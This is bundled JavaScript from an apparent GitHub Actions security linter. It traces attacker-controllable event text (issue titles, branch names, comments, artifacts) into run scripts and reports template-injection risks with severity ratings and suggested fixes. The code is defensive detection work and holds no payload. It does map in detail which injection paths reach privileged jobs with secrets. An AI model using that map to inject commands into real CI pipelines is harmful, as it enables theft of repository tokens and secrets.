    contexts_text("github.event.issue.body", ISSUE_EVENTS),
    contexts_text("github.event.pull_request.title", PR_EVENTS),
    contexts_text("github.event.pull_request.body", PR_EVENTS),
    line("github.event.pull_request.head.ref", PR_EVENTS),
    line("github.event.pull_request.head.label", PR_EVENTS),
    line("github.event.pull_request.head.repo.default_branch", PR_EVENTS),
    contexts_text("github.event.pull_request.head.repo.description", PR_EVENTS),
    contexts_text("github.event.pull_request.head.repo.homepage", PR_EVENTS),
    line("github.head_ref", ["pull_request", "pull_request_target"]),
    contexts_text("github.event.comment.body", COMMENT_EVENTS),
    contexts_text("github.event.review.body", ["pull_request_review"]),
    contexts_text("github.event.discussion.title", DISCUSSION_EVENTS),
    contexts_text("github.event.discussion.body", DISCUSSION_EVENTS),
    line("github.event.pages.*.page_name", ["gollum"]),
    line("github.event.pages.*.title", ["gollum"]),
    ...COMMIT_FIELDS.map((f) => contexts_text(`github.event.commits.*.${f}`, ["push"])),
    ...COMMIT_FIELDS.map((f) => contexts_text(`github.event.head_commit.${f}`, ["push"])),
    line("github.event.workflow_run.head_branch", ["workflow_run"]),
    contexts_text("github.event.workflow_run.display_title", ["workflow_run"]),
    ...COMMIT_FIELDS.map((f) => contexts_text(`github.event.workflow_run.head_commit.${f}`, ["workflow_run"])),
    line("github.event.workflow_run.pull_requests.*.head.ref", ["workflow_run"]),
    contexts_text("github.event.workflow_run.head_repository.description", ["workflow_run"]),
    line("github.event.check_suite.head_branch", ["check_suite"]),
    line("github.event.check_run.check_suite.head_branch", ["check_run"]),
    { pattern: "github.event.inputs.*", events: ["workflow_dispatch"], multiline: true, control: "dispatcher" },
    { pattern: "github.event.client_payload.*", events: ["repository_dispatch"], multiline: true, control: "dispatcher" },
];
/** How bad it is that an attacker's text reaches code, by the event that carries it. */
const EVENT_SEVERITY = {
    pull_request_target: "critical",
    issue_comment: "critical",
    issues: "critical",
    discussion: "critical",
    discussion_comment: "critical",
    workflow_run: "critical",
    commit_comment: "critical",
    gollum: "critical",
    check_suite: "critical",
    check_run: "critical",
    // a caller (or a composite action's user) may run under any of the above
    workflow_call: "high",
    push: "medium",
    workflow_dispatch: "medium",
    repository_dispatch: "medium",
    // a fork's pull_request run has a read-only token and no secrets, and runs the fork's code anyway
    pull_request: "low",
    pull_request_review: "low",
    pull_request_review_comment: "low",
};
/** One segment-wise match where `*` on either side matches any one segment. */
function segmentsMatch(path, pattern) {
    if (path.length !== pattern.length)
        return false;
    return path.every((seg, i) => seg === "*" || pattern[i] === "*" || seg === pattern[i]);
}
/** `github.event` is an ancestor of `github.event.issue.title`: `toJSON(github.event)` carries it. */
function isAncestor(path, pattern) {
    if (path.length >= pattern.length)
        return false;
    return segmentsMatch(path, pattern.slice(0, path.length));
}
/** The taint sources a context path reads, directly or as part of a whole object. */
function matchSources(path) {
    return sourcesOf(path);
}
/** Each source with its pattern split into segments, once. */
const SOURCE_SEGMENTS = TAINT_SOURCES.map((source) => ({ source, pattern: source.pattern.split(".") }));
/** Matches by path, worked out once per path and shared: do not modify the result. */
const sourcesOf = (0,memo/* memoizeText */.E)((path) => {
    const parts = path.split(".");
    const out = [];
    for (const { source, pattern } of SOURCE_SEGMENTS) {
        if (segmentsMatch(parts, pattern))
            out.push({ source, whole: false });
        // a whole object: github.event.inputs.* is matched above by github.event.inputs (length differs)
        else if (isAncestor(parts, pattern))
            out.push({ source, whole: true });
    }
    return out;
});
const SEVERITY_ORDER = ["low", "medium", "high", "critical"];
function maxSeverity(a, b) {
    return SEVERITY_ORDER.indexOf(a) >= SEVERITY_ORDER.indexOf(b) ? a : b;
}
function minSeverity(a, b) {
    return SEVERITY_ORDER.indexOf(a) <= SEVERITY_ORDER.indexOf(b) ? a : b;
}
/**
 * The event through which a source reaches this file, the worst one when several do: one of the
 * workflow's own triggers that fills it, or `workflow_call` / `action` when a caller decides.
 */
function arrivingEvent(source, scope) {
    if (scope.kind === "action")
        return "action";
    let best;
    for (const event of source.events) {
        if (!scope.events.has(event))
            continue;
        if (best === undefined || SEVERITY_ORDER.indexOf(EVENT_SEVERITY[event] ?? "medium") > SEVERITY_ORDER.indexOf(EVENT_SEVERITY[best] ?? "medium"))
            best = event;
    }
    // a caller may run this reusable workflow on any event: at least as bad as workflow_call
    if (scope.events.has("workflow_call") && (best === undefined || SEVERITY_ORDER.indexOf(EVENT_SEVERITY[best] ?? "medium") < SEVERITY_ORDER.indexOf("high")))
        return "workflow_call";
    return best;
}
/** Direct taint of a context path (no env/steps/needs/inputs resolution: see flow.ts). */
function contextTaint(path, scope) {
    const out = [];
    for (const { source, whole } of matchSources(path)) {
        const via = arrivingEvent(source, scope);
        if (via === undefined)
            continue;
        const severity = via === "action" ? "high" : (EVENT_SEVERITY[via] ?? "medium");
        const dispatcher = source.control === "dispatcher";
        out.push({
            origin: whole ? source.pattern : path,
            via,
            severity: dispatcher ? minSeverity(severity, "medium") : severity,
            confidence: dispatcher ? "medium" : "high",
            multiline: source.multiline,
        });
    }
    return dedupe(out);
}
/** One taint per origin, keeping the worst. */
function dedupe(taints) {
    const byOrigin = new Map();
    for (const t of taints) {
        const seen = byOrigin.get(t.origin);
        if (!seen || SEVERITY_ORDER.indexOf(t.severity) > SEVERITY_ORDER.indexOf(seen.severity))
            byOrigin.set(t.origin, t);
    }
    return [...byOrigin.values()];
}
/** The worst of several taints (highest severity, then confidence). */
function worstTaint(taints) {
    const conf = ["low", "medium", "high"];
    let best;
    for (const t of taints) {
        if (!best)
            best = t;
        else {
            const d = SEVERITY_ORDER.indexOf(t.severity) - SEVERITY_ORDER.indexOf(best.severity);
            if (d > 0 || (d === 0 && conf.indexOf(t.confidence) > conf.indexOf(best.confidence)))
                best = t;
        }
    }
    return best;
}
//# sourceMappingURL=contexts.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/describe.js

/** How messages name a step: `step "Build" in job release`, `step 3 (actions/checkout) in job test`. */
function stepLabel(step, job) {
    const uses = (0,model_source/* scalarText */.ws)(step.uses);
    const name = step.name ?? step.id;
    const what = name ? `step "${name}"` : uses ? `step ${step.index + 1} (${uses.split("@")[0]})` : `step ${step.index + 1}`;
    return job ? `${what} in job ${job.id}` : what;
}
/** An environment variable name for a context path: `github.event.issue.title` → `ISSUE_TITLE`. */
function envNameFor(path) {
    const parts = path
        .replace(/\s*\(.*$/, "")
        .split(".")
        .filter((p) => p !== "*" && p !== "github" && p !== "event" && p !== "outputs" && p !== "inputs" && p !== "env");
    const tail = parts.slice(-2);
    const name = tail.join("_").replace(/[^A-Za-z0-9_]/g, "_").toUpperCase();
    return name === "" ? "VALUE" : /^[0-9]/.test(name) ? `V_${name}` : name;
}
//# sourceMappingURL=describe.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/shell.js


/** The logical lines of a script, split once per text and shared: do not modify the result. */
function scriptLines(script) {
    return linesOf(script);
}
const linesOf = (0,memo/* memoizeText */.E)(splitLines, 5000);
function splitLines(script) {
    const out = [];
    const physical = script.split("\n");
    let offset = 0;
    let pending;
    for (const raw of physical) {
        const lineText = raw.replace(/\r$/, "");
        if (pending)
            pending.text += " " + lineText.trim();
        else
            pending = { text: lineText, offset, first: lineText.trim() };
        offset += raw.length + 1;
        if (/\\$/.test(pending.text) && !/^\s*#/.test(pending.text)) {
            pending.text = pending.text.replace(/\\$/, "");
            continue;
        }
        out.push(pending);
        pending = undefined;
    }
    if (pending)
        out.push(pending);
    return out;
}
/** Text of a line without its `# comment`: a `#` that starts a word outside quotes and `${{ }}`. */
function stripComment(text) {
    let quote;
    let depth = 0;
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (text.startsWith("${{", i))
            depth++;
        else if (depth > 0 && text.startsWith("}}", i))
            depth--;
        else if (quote) {
            if (ch === "\\" && quote === '"')
                i++;
            else if (ch === quote)
                quote = undefined;
        }
        else if (ch === "\\")
            i++;
        else if (ch === '"' || ch === "'")
            quote = ch;
        else if (ch === "#" && depth === 0 && (i === 0 || /\s/.test(text[i - 1])))
            return text.slice(0, i).replace(/\s+$/, "");
    }
    return text;
}
/**
 * Where `needle`, found at `offset` of a scalar's value, sits in the YAML source. Counts earlier
 * occurrences in the value so the same text twice in one script points at the right one.
 */
function locateInValue(source, node, value, offset, needle) {
    let occurrence = 0;
    let at = value.indexOf(needle);
    while (at >= 0 && at < offset) {
        occurrence++;
        at = value.indexOf(needle, at + 1);
    }
    return source.positionIn(node, needle, occurrence);
}
const NAME = "[A-Za-z_][A-Za-z0-9_]*";
/** Names of shell or PowerShell variables read in a piece of script: `$X`, `${X}`, `${X:-y}`, `$env:X`. */
function variableUses(text) {
    const out = new Set();
    const re = new RegExp(`\\$(?:env:(${NAME})|\\{(${NAME})[^}]*\\}|(${NAME}))`, "g");
    for (const m of text.matchAll(re)) {
        const name = m[1] ?? m[2] ?? m[3];
        if (name)
            out.add(name);
    }
    return [...out];
}
/** `NAME=value`, `export NAME=value`, `local NAME=value`, `$NAME = value` (PowerShell) in a line. */
function assignmentsIn(text) {
    const out = [];
    const re = new RegExp(`(?:^|[;&|(]\\s*|\\b(?:export|local|declare|readonly)\\s+(?:-\\w+\\s+)?)(${NAME})=(.*)$`);
    const m = re.exec(text.trim());
    if (m && m[1] && m[2] !== undefined)
        out.push({ name: m[1], value: m[2] });
    const ps = new RegExp(`^\\s*\\$(?:env:)?(${NAME})\\s*=\\s*(.*)$`).exec(text);
    if (ps && ps[1] && ps[2] !== undefined)
        out.push({ name: ps[1], value: ps[2] });
    return out;
}
const FILE_REF = "(?:\\$\\{?(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)\\}?|\\$env:(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT))";
const REDIRECT = new RegExp(`(?:>>?|\\btee\\s+(?:-a\\s+|--append\\s+)?|\\b(?:Add-Content|Out-File|Set-Content)\\b[^|;]*?(?:-(?:Path|FilePath)\\s+)?)\\s*["']?${FILE_REF}["']?`, "i");
/** Writes to $GITHUB_ENV / $GITHUB_PATH / $GITHUB_OUTPUT in a script, found once per text and shared: do not modify the result. */
function commandFileWrites(script) {
    return writesOf(script);
}
const writesOf = (0,memo/* memoizeText */.E)(findCommandFileWrites, 5000);
function findCommandFileWrites(script) {
    const lines = scriptLines(script);
    const out = [];
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i];
        const code = stripComment(line.text);
        const m = REDIRECT.exec(code);
        if (!m)
            continue;
        const file = (m[1] ?? m[2]).toUpperCase();
        let data = code.slice(0, m.index) + " " + code.slice(m.index + m[0].length);
        // a here-document: cat <<EOF >> $GITHUB_ENV ... EOF
        const heredoc = /<<-?\s*["']?([A-Za-z_][\w]*)["']?/.exec(code.replace(/"[^"]*<<[^"]*"|'[^']*<<[^']*'/g, ""));
        if (heredoc && heredoc[1]) {
            const delim = heredoc[1];
            for (let j = i + 1; j < lines.length; j++) {
                if (lines[j].text.trim() === delim) {
                    i = j;
                    break;
                }
                data += "\n" + lines[j].text;
            }
        }
        // a group: { echo a; echo b; } >> $GITHUB_ENV
        if (/^\s*\}/.test(code)) {
            for (let j = i - 1; j >= 0; j--) {
                data = lines[j].text + "\n" + data;
                if (/^\s*\{\s*$|^\s*\{\s/.test(lines[j].text))
                    break;
            }
        }
        out.push({ file, line, data, ...nameOf(data) });
    }
    return out;
}
/** The variable name written by `echo "NAME=value"` / `echo "NAME<<EOF"`, and whether the line is bare. */
function nameOf(data) {
    const body = data.replace(/^\s*\{?\s*(?:echo|printf|print|Write-Output|Add-Content|Out-File|cat)\b(?:\s+-[a-zA-Z]+)*\s*/, "");
    const m = /^["']?([A-Za-z_][\w-]*)(=|<<)/.exec(body.trim());
    if (m && m[1])
        return { name: m[1], bare: false };
    const setOutput = /::set-(?:output|env) name=([\w-]+)::/.exec(data);
    if (setOutput && setOutput[1])
        return { name: setOutput[1], bare: false };
    return { bare: true };
}
/** Deprecated `::set-output name=x::value` lines (still read for provenance of old workflows). */
function setOutputCommands(script) {
    const out = [];
    if (!script.includes("::set-output name="))
        return out;
    for (const m of script.matchAll(/::set-output name=([\w-]+)::(.*)$/gm)) {
        if (m[1])
            out.push({ name: m[1], data: m[2] ?? "" });
    }
    return out;
}
/**
 * A multi-line value written with a delimiter the script makes unguessable
 * (`NAME<<$EOF` with `EOF=$(openssl rand -hex 8)`, or `ghadelimiter_$(uuidgen)`): a newline in
 * the value cannot end it early.
 */
function usesRandomDelimiter(write) {
    return /<<\s*["']?(?:\$|[\w-]*\$\()/.test(write.data);
}
/** Reads of the event payload: `jq -r '.pull_request.title' "$GITHUB_EVENT_PATH"` → github.event.pull_request.title. */
function eventPayloadReads(text) {
    if (!/GITHUB_EVENT_PATH/.test(text))
        return [];
    const out = [];
    for (const m of text.matchAll(/jq\b[^|;]*?['"]?(\.[A-Za-z_][\w.[\]]*)['"]?/g)) {
        const path = m[1].replace(/\[\d*\]/g, ".*").replace(/\.+/g, ".").replace(/\.$/, "");
        out.push(`github.event${path}`.toLowerCase());
    }
    return out;
}
/** The text reads a file's content (`$(cat f)`, `$(< f)`, `cat f >>`, `jq . f`, `read X < f`). */
function readsFile(text) {
    return /\$\(\s*(?:<(?!<)|cat\s+(?!<)|jq\b|head\b|tail\b|awk\b|sed\b|tr\b)|^\s*\{?\s*(?:cat\s+(?![<-])|(?:jq|head|tail|awk|sed)\s+)\S|(?<![<])<(?![<(])\s*["']?[\w./$-]+["']?\s*$|\bGet-Content\b/m.test(text);
}
/**
 * The script checks a variable against an anchored pattern before using it
 * (`printf '%s' "$V" | grep -Eq '^[0-9a-f]{40}$' || exit 1`, `[[ $V =~ ^[0-9]+$ ]]`): treated as
 * validated. Only anchored patterns count; the check's failure branch is not verified.
 */
function isValidated(name, scriptBefore) {
    const use = new RegExp(`\\$\\{?${name}\\b`);
    return scriptLines(scriptBefore).some((l) => use.test(l.text) && /\bgrep\s+-\w*[qx]\w*\s+(?:-\w+\s+)*['"]\^.*\$['"]|=~\s*['"]?\^/.test(l.text));
}
/** Text with each `${{ }}` replaced by a placeholder word, for regular expressions over commands. */
function withoutExpressions(text) {
    let out = text;
    for (const span of (0,expressions/* findExpressions */.zV)(text).reverse())
        out = out.slice(0, span.start) + "EXPR" + out.slice(span.end);
    return out;
}
//# sourceMappingURL=shell.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/flow.js







/** Events of a workflow, or the open set of a composite action; worked out once per file and shared. */
function triggerScope(target) {
    return triggersOf(target);
}
const triggersOf = (0,memo/* memoize */.B)((target) => {
    if (target.kind === "action")
        return { events: new Set(), kind: "action" };
    return { events: new Set(target.triggers.map((t) => t.event)), kind: "workflow" };
});
function scopeFor(target, job, step) {
    return { target, triggers: triggerScope(target), job, step };
}
/** A privileged trigger of the workflow, if any: where unknown data is worth reporting. */
function privilegedEvent(triggers) {
    for (const event of triggers.events)
        if (EVENT_SEVERITY[event] === "critical")
            return event;
    return undefined;
}
const MAX_DEPTH = 12;
/** Taints of every `${{ }}` in a piece of text. */
function textTaint(text, scope, seen = new Set()) {
    return dedupe((0,expressions/* findExpressions */.zV)(text).flatMap((span) => expressionTaint(span.inner, scope, seen)));
}
/** Taints of one expression (the text inside `${{ }}`), following env, outputs and inputs. */
function expressionTaint(inner, scope, seen = new Set()) {
    if (seen.size > MAX_DEPTH * 8)
        return [];
    return dedupe((0,expressions/* contextPaths */.A9)(inner).filter((c) => !c.sanitized).flatMap((c) => pathTaint(c.path, scope, seen)));
}
function pathTaint(path, scope, seen) {
    const parts = path.split(".");
    const [head, second, third, fourth] = parts;
    if (head === "env" && second && parts.length === 2)
        return envTaint(second, scope, seen);
    if (head === "steps" && second && third === "outputs" && fourth)
        return stepOutputTaint(second, fourth, path, scope, seen);
    if (head === "needs" && second && third === "outputs" && fourth)
        return jobOutputTaint(second, fourth, path, scope, seen);
    if (head === "inputs" && second)
        return inputTaint(second, path, scope);
    if (path.startsWith("github.event.inputs.") && parts.length === 4 && fourth)
        return inputTaint(fourth, path, scope, "workflow_dispatch");
    return contextTaint(path, scope.triggers);
}
/** `env.NAME`: the step's, job's or workflow's `env:` entry, or an earlier `$GITHUB_ENV` write. */
function envTaint(name, scope, seen) {
    const key = `env:${scope.job?.id ?? ""}:${scope.step?.index ?? -1}:${name.toLowerCase()}`;
    if (seen.has(key))
        return [];
    seen.add(key);
    const value = yamlEnvValue(name, scope);
    if (value !== undefined)
        return textTaint(value, scope, seen);
    return githubEnvTaint(name, scope, seen);
}
/** The value an `env:` entry gives `name` (case-insensitive), nearest scope first. */
function yamlEnvValue(name, scope) {
    const lower = name.toLowerCase();
    const maps = [scope.step?.env, scope.job?.env, scope.target.kind === "workflow" ? scope.target.env : undefined];
    for (const map of maps) {
        if (!map)
            continue;
        for (const [key, node] of map)
            if (key.toLowerCase() === lower)
                return (0,model_source/* scalarText */.ws)(node) ?? "";
    }
    return undefined;
}
function stepsOf(scope) {
    if (scope.job)
        return scope.job.steps;
    return scope.target.kind === "action" ? scope.target.steps : [];
}
function earlierSteps(scope) {
    const limit = scope.step?.index ?? Number.POSITIVE_INFINITY;
    return stepsOf(scope).filter((s) => s.index < limit);
}
/** Writes of `NAME=...` to $GITHUB_ENV by earlier steps of the job. */
function githubEnvTaint(name, scope, seen) {
    const out = [];
    for (const step of earlierSteps(scope)) {
        const script = (0,model_source/* scalarText */.ws)(step.run);
        if (!script || !script.includes(name))
            continue;
        const stepScope = { ...scope, step };
        for (const write of commandFileWrites(script)) {
            if (write.file === "GITHUB_ENV" && write.name === name)
                out.push(...shellDataTaint(write.data, script, stepScope, write.line.offset, seen));
        }
    }
    return out;
}
/** A taint for data whose origin cannot be seen statically, reported only under privileged triggers. */
function unknownTaint(what, scope) {
    const via = privilegedEvent(scope.triggers);
    if (!via)
        return [];
    return [{ origin: what, via, severity: "medium", confidence: "low", multiline: true }];
}
function stepOutputTaint(id, output, path, scope, seen) {
    const key = `out:${scope.job?.id ?? ""}:${id}:${output}`;
    if (seen.has(key))
        return [];
    seen.add(key);
    const step = earlierSteps(scope).find((s) => s.id?.toLowerCase() === id);
    if (!step)
        return [];
    const stepScope = { ...scope, step };
    if (step.uses) {
        const ref = (0,dist_uses/* parseUses */.Ap)((0,model_source/* scalarText */.ws)(step.uses) ?? "");
        if (ref.kind !== "remote")
            return unknownTaint(`${path} (output of a local or docker action)`, scope);
        const name = (0,dist_uses/* actionName */.aM)(ref);
        const known = TAINTED_OUTPUTS.find((t) => (name === t.action || name.startsWith(`${t.action}/`)) && t.outputs.test(output));
        if (known) {
            const source = { pattern: path, events: known.events, multiline: known.multiline, control: "anyone" };
            const via = arrivingEvent(source, scope.triggers);
            if (!via)
                return [];
            return [{ origin: `${path} (${known.origin}, from ${name})`, via, severity: via === "action" ? "high" : (EVENT_SEVERITY[via] ?? "medium"), confidence: "high", multiline: known.multiline }];
        }
        if (hasSafeOutputs(name))
            return [];
        if (name === "actions/github-script")
            return scriptResultTaint(step, output, path, stepScope, seen);
        return unknownTaint(`${path} (output of ${name})`, scope);
    }
    const script = (0,model_source/* scalarText */.ws)(step.run);
    if (!script)
        return [];
    const writes = commandFileWrites(script).filter((w) => w.file === "GITHUB_OUTPUT" && w.name?.toLowerCase() === output);
    const legacy = setOutputCommands(script).filter((w) => w.name.toLowerCase() === output);
    if (writes.length === 0 && legacy.length === 0) {
        // written some other way (a loop, a helper script): unknown unless the step sees no tainted data at all
        return unknownTaint(`${path} (written by a script)`, scope);
    }
    return [
        ...writes.flatMap((w) => shellDataTaint(w.data, script, stepScope, w.line.offset, seen)),
        ...legacy.flatMap((w) => shellDataTaint(w.data, script, stepScope, script.length, seen)),
    ];
}
/** `actions/github-script` returns what its script returns: tainted when the script reads tainted context. */
function scriptResultTaint(step, output, path, scope, seen) {
    const script = (0,model_source/* scalarText */.ws)(step.with.get("script")) ?? "";
    // core.setOutput('head', pr.head.sha): a SHA, a number or an id carries no text
    const set = new RegExp(`setOutput\\(\\s*['"\`]${output.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}['"\`]\\s*,\\s*([^)\\n]*)\\)`, "i").exec(script);
    if (set && set[1] && /(?:\.|\b)(?:sha|number|id|node_id|run_id|count|length|html_url|url)\s*(?:\)|$)|^\s*(?:true|false|\d+)\s*$/i.test(set[1].trim()))
        return [];
    const taints = textTaint(script, scope, seen);
    const reads = [...script.matchAll(/context\.payload((?:\.[A-Za-z_]\w*)+)/g)].flatMap((m) => contextTaint(`github.event${m[1].toLowerCase()}`, scope.triggers));
    const all = dedupe([...taints, ...reads]);
    if (all.length > 0)
        return all.map((t) => ({ ...t, confidence: t.confidence === "high" ? "medium" : t.confidence }));
    return /github\.(?:rest|request|graphql|paginate)|fetch\(/.test(script) ? unknownTaint(`${path} (data fetched by github-script)`, scope) : [];
}
function jobOutputTaint(jobId, output, path, scope, seen) {
    const key = `needs:${jobId}:${output}`;
    if (seen.has(key) || scope.target.kind !== "workflow")
        return [];
    seen.add(key);
    const job = scope.target.jobs.find((j) => j.id.toLowerCase() === jobId);
    if (!job)
        return [];
    if (job.uses)
        return unknownTaint(`${path} (output of a reusable workflow)`, scope);
    for (const [name, pair] of (0,model_source/* entries */.jO)((0,model_source/* valueOf */.RP)(job.node, "outputs"))) {
        if (name.toLowerCase() !== output)
            continue;
        return textTaint((0,model_source/* scalarText */.ws)(pair.value) ?? "", { ...scope, job, step: undefined }, seen);
    }
    return [];
}
/** Input types that cannot carry text: GitHub validates them before the run starts. */
const SAFE_INPUT_TYPES = new Set(["boolean", "number", "choice", "environment"]);
function inputTaint(name, path, scope, only) {
    if (scope.target.kind === "action") {
        return [{ origin: path, via: "action", severity: "medium", confidence: "low", multiline: true }];
    }
    const out = [];
    for (const event of only ? [only] : ["workflow_dispatch", "workflow_call"]) {
        const type = inputType(scope.target, event, name);
        if (type === undefined || SAFE_INPUT_TYPES.has(type))
            continue;
        out.push({ origin: path, via: event, severity: "medium", confidence: "medium", multiline: true });
    }
    return out;
}
/** The declared type of a `workflow_dispatch` / `workflow_call` input (`string` when untyped), if declared. */
function inputType(workflow, event, name) {
    const trigger = workflow.triggers.find((t) => t.event === event);
    if (!trigger)
        return undefined;
    for (const [key, pair] of (0,model_source/* entries */.jO)((0,model_source/* valueOf */.RP)(trigger.config, "inputs"))) {
        if (key.toLowerCase() === name.toLowerCase())
            return ((0,model_source/* textOf */.b6)(pair.value, "type") ?? "string").toLowerCase();
    }
    return undefined;
}
/** Runner variables that carry attacker text. */
const RUNNER_VARIABLE_CONTEXTS = { GITHUB_HEAD_REF: "github.head_ref" };
/**
 * Taints of data in a shell script: expressions, variables (assigned earlier in the script, from
 * `env:` or from an earlier `$GITHUB_ENV` write), event payload reads with jq, and file reads after
 * a workflow_run artifact download.
 */
function shellDataTaint(data, script, scope, offset, seen = new Set()) {
    const out = [...textTaint(data, scope, seen)];
    for (const name of variableUses(data))
        out.push(...variableTaint(name, script, scope, offset, seen));
    for (const path of eventPayloadReads(data))
        out.push(...contextTaint(path, scope.triggers));
    if (readsFile(data))
        out.push(...artifactTaint(scope, script.slice(0, offset)));
    return dedupe(out);
}
function variableTaint(name, script, scope, offset, seen) {
    const context = RUNNER_VARIABLE_CONTEXTS[name];
    if (context)
        return contextTaint(context, scope.triggers);
    if (/^(GITHUB|RUNNER)_/.test(name))
        return [];
    const key = `var:${scope.job?.id ?? ""}:${scope.step?.index ?? -1}:${name}`;
    if (seen.has(key))
        return [];
    seen.add(key);
    if (isValidated(name, script.slice(0, offset)))
        return [];
    const assigned = scriptLines(script)
        .filter((l) => l.offset < offset)
        .flatMap((l) => assignmentsIn(stripComment(l.text)).filter((a) => a.name === name).map((a) => ({ ...a, offset: l.offset })));
    if (assigned.length > 0)
        return assigned.flatMap((a) => shellDataTaint(a.value, script, scope, a.offset, seen));
    const value = yamlEnvValue(name, scope);
    if (value !== undefined)
        return textTaint(value, scope, seen);
    return githubEnvTaint(name, scope, seen);
}
/** Artifacts of the triggering run read in a workflow_run job: the fork's build wrote them. */
function artifactTaint(scope, scriptBefore) {
    if (!scope.triggers.events.has("workflow_run"))
        return [];
    const downloaded = earlierSteps(scope).some(isRunArtifactDownload) || RUN_ARTIFACT_SCRIPT.test(scriptBefore);
    if (!downloaded)
        return [];
    return [{ origin: "a file from an artifact of the triggering workflow run", via: "workflow_run", severity: "critical", confidence: "medium", multiline: true }];
}
const RUN_ARTIFACT_SCRIPT = /\bgh\s+run\s+download\b|\/actions\/(?:runs\/[^/\s]+\/)?artifacts\b/;
/** A step that downloads artifacts of another workflow run (the workflow_run's, by its id). */
function isRunArtifactDownload(step) {
    const uses = (0,model_source/* scalarText */.ws)(step.uses);
    if (uses) {
        const ref = (0,dist_uses/* parseUses */.Ap)(uses);
        if (ref.kind !== "remote")
            return false;
        const name = (0,dist_uses/* actionName */.aM)(ref);
        if (name === "dawidd6/action-download-artifact")
            return true;
        if (name === "actions/download-artifact")
            return step.with.has("run-id");
        if (name === "actions/github-script")
            return /downloadArtifact|listWorkflowRunArtifacts/.test((0,model_source/* scalarText */.ws)(step.with.get("script")) ?? "");
        return false;
    }
    return RUN_ARTIFACT_SCRIPT.test((0,model_source/* scalarText */.ws)(step.run) ?? "");
}
//# sourceMappingURL=flow.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/wording.js
/** Who chooses the tainted text, in the words of a finding message. */
function whoControls(taint) {
    switch (taint.via) {
        case "action":
            return taint.origin.startsWith("inputs.") ? "the workflow using this action decides this input, often from issue or pull-request text" : "under a privileged trigger of the calling workflow an outsider chooses this text";
        case "workflow_call":
            return taint.origin.startsWith("inputs.") ? "a caller of this reusable workflow decides this input" : "a caller of this reusable workflow may run it on an event whose text an outsider chooses";
        case "workflow_dispatch":
        case "repository_dispatch":
            return `whoever can dispatch the workflow (${taint.via}) chooses this text`;
        case "push":
            return "under push this text comes from pushed or merged commits and branches, which contributors write";
        case "pull_request":
        case "pull_request_review":
        case "pull_request_review_comment":
            return `under ${taint.via} a fork's author chooses this text (the token is read-only there, so the impact is limited)`;
        default:
            return taint.confidence === "low"
                ? `under ${taint.via} its content cannot be traced statically and may come from an outsider`
                : `under ${taint.via} an outsider chooses this text and the job runs with the base repository's token and secrets`;
    }
}
/** `${{ x }}`, and what it carries when that differs: `${{ env.T }} (carrying github.event.issue.title)`. */
function expressionWithOrigin(expression, taint) {
    const bare = taint.origin.replace(/\s*\(.*$/, "");
    return expression.toLowerCase().includes(bare) ? expression : `${expression} (carrying ${taint.origin})`;
}
//# sourceMappingURL=wording.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/template-injection.js










const SHELL_SINK = { inputs: ["run"], language: "shell", envRead: (name) => `"$${name}"` };
/**
 * `${{ }}` is pasted into a script before the script runs: text an outsider chooses (an issue
 * title, a branch name) becomes code. Reports each expression in a `run:` script or a
 * code-evaluating action input whose value can be attacker text, after following env, outputs and
 * inputs (taint/flow.ts). Values passed through `env:` and read as "$VAR" are not reported.
 */
const templateInjection = {
    id: "template-injection",
    title: "Attacker-controllable expression expanded into code",
    severity: "high",
    confidence: "high",
    check(ctx) {
        for (const { step, job } of (0,walk/* allSteps */.Bd)(ctx.target)) {
            if (step.run)
                checkCode(ctx, step, job, step.run, "run script", SHELL_SINK);
            const uses = (0,model_source/* scalarText */.ws)(step.uses);
            if (!uses)
                continue;
            const ref = (0,dist_uses/* parseUses */.Ap)(uses);
            if (ref.kind !== "remote")
                continue;
            const sink = CODE_SINKS.get((0,dist_uses/* actionName */.aM)(ref));
            if (!sink)
                continue;
            for (const [input, node] of step.with) {
                if (sink.inputs.includes(input.toLowerCase()))
                    checkCode(ctx, step, job, node, `${input}: input of ${(0,dist_uses/* actionName */.aM)(ref)}`, sink);
            }
        }
    },
};
function checkCode(ctx, step, job, node, where, sink) {
    const code = (0,model_source/* scalarText */.ws)(node);
    if (!code || !code.includes("${{"))
        return;
    const scope = scopeFor(ctx.target, job, step);
    for (const span of (0,expressions/* findExpressions */.zV)(code)) {
        const taint = worstTaint(expressionTaint(span.inner, scope));
        if (!taint)
            continue;
        const fix = fixFor(span.inner, span.text, taint.origin, sink);
        ctx.report({
            at: locateInValue(ctx.target.source, node, code, span.start, span.text),
            job: job?.id,
            step: step.index,
            severity: taint.severity,
            confidence: taint.confidence,
            message: `${stepLabel(step, job)} expands ${expressionWithOrigin(span.text, taint)} into its ${where}; ${whoControls(taint)}; ` +
                fix,
        });
    }
}
/** The fix sentence: an `env:` entry read as a variable; for `env.X` only the read changes. */
function fixFor(inner, expression, origin, sink) {
    const envRef = /^env\.([A-Za-z_][\w-]*)$/.exec(inner.trim());
    if (envRef && envRef[1])
        return `the value is already in the environment: use ${sink.envRead(envRef[1])} instead of the expression`;
    const simple = /^[\w.*-]+$/.test(inner.trim());
    const paths = (0,expressions/* contextPaths */.A9)(inner);
    const name = envNameFor(simple ? inner : (paths[0]?.path ?? origin));
    return `pass it through env: (${name}: ${expression}) and use ${sink.envRead(name)} instead`;
}
//# sourceMappingURL=template-injection.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/taint/checkout.js





/** Context paths that name a pull request's head (or merge) commit or branch. */
const PR_HEAD_PATHS = [
    /^github\.event\.pull_request\.head\.(sha|ref)$/,
    /^github\.event\.pull_request\.merge_commit_sha$/,
    /^github\.head_ref$/,
    /^github\.event\.workflow_run\.head_(sha|branch)$/,
    /^github\.event\.workflow_run\.pull_requests\.\*\.head\.(sha|ref)$/,
    /^github\.event\.pull_request\.head\.repo\.(full_name|clone_url|ssh_url)$/,
    /^github\.event\.workflow_run\.head_repository\.(full_name|clone_url)$/,
];
function namesPrHead(text) {
    if (/refs\/pull\/|(^|[\s:])pull\/[^\s]*\/(head|merge)/.test(withoutExpressions(text)))
        return { yes: true, indirect: false };
    let indirect = false;
